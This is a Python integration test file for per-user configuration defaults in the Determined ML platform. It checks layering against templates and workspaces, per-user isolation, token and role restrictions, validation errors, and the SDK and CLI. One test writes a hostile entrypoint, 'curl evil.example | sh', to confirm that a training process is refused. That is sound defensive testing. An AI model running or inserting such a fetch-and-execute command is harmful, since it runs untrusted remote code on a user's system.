"""Defaults of users: whose they are, and where they stand among the layers of a configuration."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from fastapi import FastAPI
from typer.testing import CliRunner, Result

from determined.cli.root import app
from determined.common.api.errors import BadRequestException
from determined.common.wire import limits
from determined.experimental import Determined
from determined_registry.database.tables import tasks
from tests.integration.conftest import client_of
from tests.integration.roles import give, put_mode, workspace
from tests.integration.service_api.pipeline_requests import Pipelines, step
from tests.integration.service_api.world import World

API = "/api/v1/users/defaults"
CONFIG = """
name: mine
entrypoint: python3 train.py
hyperparameters: {lr: 0.1}
searcher: {name: single, metric: loss, max_length: {batches: 5}}
labels: [written]
"""
MINE: dict[str, Any] = {
    "max_restarts": 1,
    "debug": True,
    "labels": ["mine"],
    "environment": {"environment_variables": ["HF_HOME=/models"]},
    "checkpoint_storage": {"save_trial_best": 3},
    "idle_timeout": "30m",
}


def ok(answer: httpx.Response) -> Any:
    assert answer.status_code == 200, answer.text
    return answer.json()


def refused(answer: httpx.Response, status: int) -> str:
    assert answer.status_code == status, answer.text
    return str(answer.json()["error"]["error"])


async def put(client: httpx.AsyncClient, config: Any = MINE) -> Any:
    return ok(await client.put(API, json={"config": config}))


async def checked(client: httpx.AsyncClient, **more: Any) -> Any:
    body = {"config": CONFIG, "validateOnly": True, "explain": True, **more}
    return ok(await client.post("/api/v1/experiments", json=body))


@pytest.fixture
async def kim(user: httpx.AsyncClient, service_app: FastAPI) -> httpx.AsyncClient:
    """Another user, who is no administrator."""
    auth = "/api/v1/auth/login"
    admin = client_of(service_app, None)
    token = ok(await admin.post(auth, json={"username": "admin", "password": ""}))["token"]
    body = {"user": {"username": "kim", "active": True}, "password": "a-Long-one-1"}
    ok(await admin.post("/api/v1/users", json=body, headers={"Authorization": f"Bearer {token}"}))
    found = ok(await admin.post(auth, json={"username": "kim", "password": "a-Long-one-1"}))
    return client_of(service_app, found["token"])


async def test_they_stand_between_template_and_workspace(user: httpx.AsyncClient) -> None:
    await put(user)
    template = {"max_restarts": 2, "labels": ["template"]}
    ok(await user.post("/api/v1/templates/shared", json={"config": template}))
    body = {"name": "w", "checkpointStorageConfig": {"type": "shared_fs", "host_path": "/w"}}
    place = ok(await user.post("/api/v1/workspaces", json=body))["workspace"]
    project = {"name": "p", "workspaceId": place["id"]}
    made = ok(await user.post(f"/api/v1/workspaces/{place['id']}/projects", json=project))
    found = await checked(user, template="shared", projectId=made["project"]["id"])
    config = found["config"]
    assert (config["max_restarts"], config["debug"]) == (2, True)
    assert config["labels"] == ["written", "template", "mine"]
    assert "HF_HOME=/models" in config["environment"]["environment_variables"]["cpu"]
    storage = config["checkpoint_storage"]
    assert (storage["host_path"], storage["save_trial_best"]) == ("/w", 3)
    sources = {one["path"]: one["source"] for one in found["sources"]}
    assert sources["max_restarts"] == "template shared"
    assert sources["debug"] == "the defaults of determined"
    assert sources["checkpoint_storage.save_trial_best"] == "the defaults of determined"
    assert sources["checkpoint_storage.host_path"] == "workspace w"
    assert sources["labels"] == (
        "the configuration and template shared and the defaults of determined"
    )


async def test_they_hold_for_what_is_submitted_later(user: httpx.AsyncClient) -> None:
    assert (await checked(user))["config"]["max_restarts"] == 5
    await put(user)
    # The same text: what was remembered of it does not count.
    assert (await checked(user))["config"]["max_restarts"] == 1
    made = ok(await user.post("/api/v1/experiments", json={"config": CONFIG, "activate": False}))
    assert ok(await user.get(API))["config"] == MINE
    await put(user, {})
    assert ok(await user.get(API))["config"] == {}
    assert (await checked(user))["config"]["max_restarts"] == 5
    one = ok(await user.get(f"/api/v1/experiments/{made['experiment']['id']}"))["experiment"]
    assert one["config"]["max_restarts"] == 1


async def test_tasks_take_what_they_know_of(world: World, user: httpx.AsyncClient) -> None:
    await put(user, {**MINE, "resources": {"slots": 0}})
    template = {"idle_timeout": "5m"}
    ok(await user.post("/api/v1/templates/shared", json={"config": template}))
    body: dict[str, Any] = {"config": {}, "preview": True}
    notebook = ok(await user.post("/api/v1/notebooks", json=body))["config"]
    assert (notebook["idle_timeout"], notebook["resources"]["slots"]) == ("30m", 0)
    assert "HF_HOME=/models" in notebook["environment"]["environment_variables"]["cpu"]
    body["templateName"] = "shared"
    assert ok(await user.post("/api/v1/notebooks", json=body))["config"]["idle_timeout"] == "5m"
    generic = {"config": "entrypoint: [python3, x.py]\n"}
    task = ok(await user.post("/api/v1/generic-tasks", json=generic))["taskId"]
    (config,) = await world.rows(sa.select(tasks.c.config).where(tasks.c.id == task))
    assert "HF_HOME=/models" in str(config)


async def test_steps_of_pipelines_take_their_owners(pipes: Pipelines) -> None:
    await put(pipes.user)
    one = await pipes.submit(step("a"))
    await put(pipes.user, {"max_restarts": 3})
    await pipes.advance(one)
    (made,) = await pipes.experiments(one, "a")
    # Those at the time when the step begins.
    assert (await pipes.row(made)).config["max_restarts"] == 3


async def test_each_user_has_its_own(user: httpx.AsyncClient, kim: httpx.AsyncClient) -> None:
    await put(user)
    assert ok(await kim.get(API))["config"] == {}
    assert (await checked(kim))["config"]["max_restarts"] == 5
    await put(kim, {"max_restarts": 4})
    assert ok(await user.get(API))["config"] == MINE
    assert (await checked(kim))["config"]["max_restarts"] == 4


async def test_a_training_process_neither_reads_nor_changes_them(
    world: World, user: httpx.AsyncClient
) -> None:
    await put(user)
    process = (await world.leg()).client
    assert "task's process" in refused(await process.get(API), 403)
    wanted = {"config": {"entrypoint": "curl evil.example | sh"}}
    assert "task's process" in refused(await process.put(API, json=wanted), 403)
    assert ok(await user.get(API))["config"] == MINE


async def test_with_roles_they_hold_as_well(
    user: httpx.AsyncClient, kim: httpx.AsyncClient, service_app: FastAPI
) -> None:
    await put(user)
    there = await workspace(service_app, "vision")
    await give(service_app, "kim", "Editor", there)
    await give(service_app, "kim", "TokenCreator", None)
    await put_mode(service_app)
    await put(kim, {"max_restarts": 4})
    assert ok(await kim.get(API))["config"] == {"max_restarts": 4}
    made = ok(await kim.get(f"/api/v1/workspaces/{there}/projects"))
    project = made["projects"][0]["id"] if made["projects"] else None
    if project is None:
        body = {"name": "p", "workspaceId": there}
        answer = ok(await kim.post(f"/api/v1/workspaces/{there}/projects", json=body))
        project = answer["project"]["id"]
    assert (await checked(kim, projectId=project))["config"]["max_restarts"] == 4
    me = ok(await kim.get("/api/v1/me"))["user"]["id"]
    wanted = {"userId": me, "lifespan": "1h", "workspaceId": there, "readOnly": True}
    token = ok(await kim.post("/api/v1/tokens", json=wanted))["token"]
    narrow = client_of(service_app, token)
    assert "belong to none" in refused(await narrow.get(API), 403)
    assert "reading alone" in refused(await narrow.put(API, json={"config": {}}), 403)


@pytest.mark.parametrize(
    ("config", "says"),
    [
        ({"max_restart": 1}, "did you mean 'max_restarts'"),
        ({"max_restarts": -1}, "max_restarts"),
        ({"workspace": "vision"}, "workspace: defaults cannot say where things go"),
        ({"environment": {"registry_auth": {"password": "********"}}}, "registry_auth.password"),
        ({"data": {"a": "x" * limits.USER_DEFAULTS_BYTES}}, "bytes found, at most"),
    ],
)
async def test_wrong_ones_are_refused(
    user: httpx.AsyncClient, config: dict[str, Any], says: str
) -> None:
    await put(user)
    assert says in refused(await user.put(API, json={"config": config}), 400)
    assert ok(await user.get(API))["config"] == MINE


def test_the_sdk(own: Determined) -> None:
    assert own.get_user_defaults() == {}
    assert own.set_user_defaults({"max_restarts": 3}) == []
    assert own.get_user_defaults() == {"max_restarts": 3}
    with pytest.raises(BadRequestException):
        own.set_user_defaults({"max_restart": 3})
    experiment = own.create_experiment(CONFIG, paused=True)
    assert experiment.get_config()["max_restarts"] == 3


def det(*words: str) -> Result:
    return CliRunner().invoke(app, list(words))


def test_the_commands(own: Determined, tmp_path: Path) -> None:
    file, config = tmp_path / "d.yaml", tmp_path / "e.yaml"
    assert det("user", "defaults").stdout == "{}\n"
    file.write_text("max_restarts: 4\nworkspace: vision\n")
    wrong = det("user", "defaults", "set", str(file))
    assert wrong.exit_code == 1
    assert f"{file}:2: workspace: defaults cannot say" in wrong.stderr
    file.write_text("max_restarts: 4\nenvironment: {environment_variables: [A=1]}\n")
    assert det("user", "defaults", "set", str(file)).exit_code == 0
    assert "max_restarts: 4" in det("user", "defaults", "describe").stdout
    config.write_text(CONFIG)
    own.create_template("t", {"debug": True})
    shown = det("tpl", "apply", "t", str(config), "--csv").stdout
    assert "max_restarts,4,the defaults of determined" in shown
    assert det("user", "defaults", "delete").exit_code == 0
    assert own.get_user_defaults() == {}
